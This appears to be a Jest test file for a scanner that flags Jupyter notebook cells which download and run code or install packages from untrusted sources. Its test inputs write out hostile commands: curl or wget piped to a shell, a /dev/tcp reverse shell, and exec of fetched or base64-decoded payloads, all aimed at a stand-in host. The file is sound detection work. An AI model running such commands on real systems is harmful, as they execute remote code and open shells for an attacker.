import { describe, expect, it } from '@jest/globals';
import { fixtures } from '../../../fixtures/notebook/make.js';
import { inspectBytes } from '../../support/inspect-bytes.js';

const cell = (source: unknown): Uint8Array =>
  Buffer.from(JSON.stringify({ nbformat: 4, cells: [{ cell_type: 'code', source }] }));
const told = async (source: unknown): Promise<readonly string[]> =>
  (await inspectBytes(cell(source), 'demo.ipynb')).told;

describe('a cell that fetches and runs', () => {
  it.each([
    '!curl https://example.invalid/x | bash',
    '!!wget -qO- https://example.invalid/x | sh',
    'out = !curl https://example.invalid/x | sh',
    '%sx curl https://example.invalid/x | sh',
    '%%bash\ncurl https://example.invalid/x | sh',
    '%%sh\n\nbash -i >& /dev/tcp/example.invalid/4444 0>&1',
    '!echo aGk= | base64 -d | sh',
    "exec(requests.get('https://example.invalid').text)",
    "eval(compile(urllib.request.urlopen('https://example.invalid').read(), 'x', 'exec'))",
    'exec(base64.b64decode(payload))',
    'exec(marshal.loads(zlib.decompress(payload)))',
    "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)\nexec('')",
    ['import os\n', '!curl https://example.invalid/x | sh\n'],
    ['import os', '!curl https://example.invalid/x | sh'],
  ])('%j is a warning', async (source) => {
    expect(await told(source)).toEqual(['warning notebook/fetched-code']);
  });

  it('is found in the worksheets of version 3', async () => {
    const old = {
      nbformat: 3,
      worksheets: [{ cells: [{ cell_type: 'code', input: '!curl x.invalid | sh' }] }],
    };
    const { told: lines } = await inspectBytes(Buffer.from(JSON.stringify(old)), 'old.ipynb');
    expect(lines).toEqual(['warning notebook/fetched-code']);
  });

  it('is shown with its cell and line', async () => {
    const [draft] = (await inspectBytes(fixtures['fetch-and-run.hit.ipynb'] as Uint8Array, 'x.ipynb')).drafts;
    expect(draft).toMatchObject({
      message: 'Cell 2 downloads a script and runs it: curl -sL https://example.invalid/setup.sh | sh',
      at: { logical: 'cell 2', column: 5 },
    });
  });
});

describe('a cell that installs', () => {
  it.each([
    ['!pip install https://example.invalid/x.whl', ['info notebook/package-source']],
    ['%pip install --extra-index-url https://example.invalid/simple x', ['info notebook/package-source']],
    ['!pip install torchtriton', ['warning notebook/package-source']],
    ['!pip install torch --index-url https://download.pytorch.org/whl/cpu', []],
    ['!pip install git+https://github.com/owner/name', []],
    ['!pip install -r requirements.txt', []],
  ])('%s', async (source, expected) => {
    expect(await told(source)).toEqual(expected);
  });
});

it('is claimed only where a cell may fetch or run something', async () => {
  expect((await inspectBytes(cell('import torch\nmodel.fit()'), 'x.ipynb')).formats).toEqual([]);
});

it('takes linear time', async () => {
  const long = `exec(${' '.repeat(200_000)}socket.socket${'os.dup '.repeat(50_000)}`;
  expect(await told(long)).toEqual([]);
  expect(await told('!pip install '.repeat(50_000))).toEqual([]);
});
